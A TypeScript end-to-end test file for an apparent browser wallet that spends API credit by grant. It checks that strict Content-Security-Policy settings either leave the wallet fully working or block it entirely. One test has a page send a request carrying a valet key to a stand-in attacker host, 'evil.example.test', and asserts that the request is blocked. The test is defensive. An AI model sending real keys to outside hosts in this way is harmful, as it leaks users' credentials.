/** The strictest policies a page can have: served, or nothing at all; never half of it (C50). */
import { describe, expect, it } from 'vitest'
import { APP, CHAT_URL, chatInit, fetchFrom, useWorld } from '../e2e/world.ts'
import { hasShim, tryToSpend, type Outcome } from './attempt.ts'

const NO_TEXT = "require-trusted-types-for 'script'; trusted-types 'none'"
const ISOLATED = {
  'cross-origin-embedder-policy': 'require-corp',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
}

describe('a page with a strict policy', () => {
  const world = useWorld('site')

  /**
   * `connect-src` rules what a page itself connects to. The wallet's call is not the page's: it goes to a
   * provider's own host and spends by a grant, so the policy neither stops it nor is weakened by it.
   */
  it.each<[policy: string, headers: Record<string, string>, outcome: Outcome]>([
    ["default-src 'none'", {}, 'served'],
    ["connect-src 'none'", {}, 'served'],
    ["default-src 'none'; script-src 'none'; connect-src 'none'; worker-src 'none'", {}, 'served'],
    [`default-src 'none'; ${NO_TEXT}`, ISOLATED, 'served'],
    [`sandbox allow-scripts allow-same-origin; ${NO_TEXT}`, {}, 'served'],
    ["upgrade-insecure-requests; frame-ancestors 'none'; base-uri 'none'", ISOLATED, 'served'],
    ['sandbox allow-scripts', {}, 'unswapped'],
    ["sandbox allow-scripts; connect-src 'none'", {}, 'nothing sent'],
    [`sandbox allow-scripts; default-src 'none'; ${NO_TEXT}`, {}, 'nothing sent'],
  ])('C50: %s', async (policy, headers, outcome) => {
    world.apps.serve('/strict', {
      body: '<!doctype html><title>strict</title>',
      headers: { 'content-security-policy': policy, ...headers },
    })
    const page = await world.driver.newPage(`${APP}/strict`)
    await page.evaluate(() => {
      const violations: string[] = []
      Object.assign(window, { violations })
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        violations.push(effectiveDirective)
      })
    })

    expect(await hasShim(page)).toBe(outcome === 'served')
    expect(await tryToSpend(world, page)).toBe(outcome)
    // What our scripts do in a page is no violation its owner would hear of.
    const violations = await page.evaluate('violations')
    if (outcome !== 'nothing sent') expect(violations).toEqual([])
  })

  it('C50: a policy in a meta element is no different', async () => {
    world.apps.serve('/meta', {
      body: `<!doctype html><meta http-equiv="content-security-policy" content="default-src 'none'; ${NO_TEXT}"><title>meta</title>`,
    })

    expect(await tryToSpend(world, await world.driver.newPage(`${APP}/meta`))).toBe('served')
  })

  it('C50: where it forbids all connections, a call the wallet does not make is not made', async () => {
    world.apps.serve('/strict', {
      body: '<!doctype html><title>strict</title>',
      headers: { 'content-security-policy': "default-src 'none'" },
    })
    const page = await world.driver.newPage(`${APP}/strict`)
    const init = chatInit(await world.driver.valetKey(APP, 'openai'))
    const before = world.apps.requests.length
    const own = await fetchFrom(page, `${APP}/api/chat`, init)
    const keyless = await fetchFrom(page, CHAT_URL, chatInit('of-somebody'))
    const evil = await fetchFrom(page, 'https://evil.example.test/v1/chat/completions', init)

    expect([own, keyless, evil].map(({ rejected }) => rejected)).toEqual(
      Array.from({ length: 3 }, () => 'TypeError'),
    )
    expect([world.fakes.requests, world.fakes.attackerRequests]).toEqual([[], []])
    expect(world.apps.requests.length).toBe(before)
  })
})
